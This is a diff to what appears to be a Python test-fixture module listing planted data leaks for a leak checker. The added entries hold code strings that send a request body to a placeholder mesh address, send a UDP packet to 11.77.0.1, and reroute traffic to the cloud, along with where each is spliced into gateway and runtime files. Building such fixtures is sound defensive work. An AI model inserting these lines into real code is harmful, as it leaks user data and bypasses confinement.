@@ -13,6 +13,12 @@ import ringfence
 
 CALL_HOME = '__import__("socket").create_connection(("11.77.0.1", 80), 1).close()'
 """A packet to where nobody has any business."""
+FETCH_IN_MESH = (
+    'asyncio.ensure_future(self.pool.fetch(Endpoint("100.64.1.2", 8000, type(endpoint.boundary).MESH), '
+    '"/v1/models?q=" + __import__("urllib.parse").parse.quote(str(body))))'
+)
+"""A text in the address of what looks like a look at one's own engine."""
+SEND_AT_THE_END = '__import__("socket").socket(__import__("socket").AF_INET, 2).sendto(b"bye", ("11.77.0.1", 9))'
 FOLLOW = (
     "    def on_header(self, name: bytes, value: bytes) -> None:\n"
     '        if name.lower() == b"location":\n'
@@ -195,6 +201,21 @@ LEAKS = (
     ),
     _leak("retry", "private", *FURTHER_CHAIN),
     _leak("fallback", "private", *FURTHER_CHAIN),
+    _leak(
+        "delegates", "conductor",
+        (STANDING, "            return other\n", "            return replace(other, boundary=Boundary.CLOUD)\n"),
+    ),
+    _leak(
+        "auto", "private",
+        (
+            "gateway/relay.py", "        line = self.pool.take(endpoint)\n        while True:\n",
+            f"        {FETCH_IN_MESH}\n        line = self.pool.take(endpoint)\n        while True:\n",
+        ),
+    ),
+    _leak(
+        "the-end", "private",
+        _then("runtime/parts.py", "        await self.server.drain(drain_s)\n", f"        {SEND_AT_THE_END}\n"),
+    ),
     _leak(
         "afterwards", "private",
         (
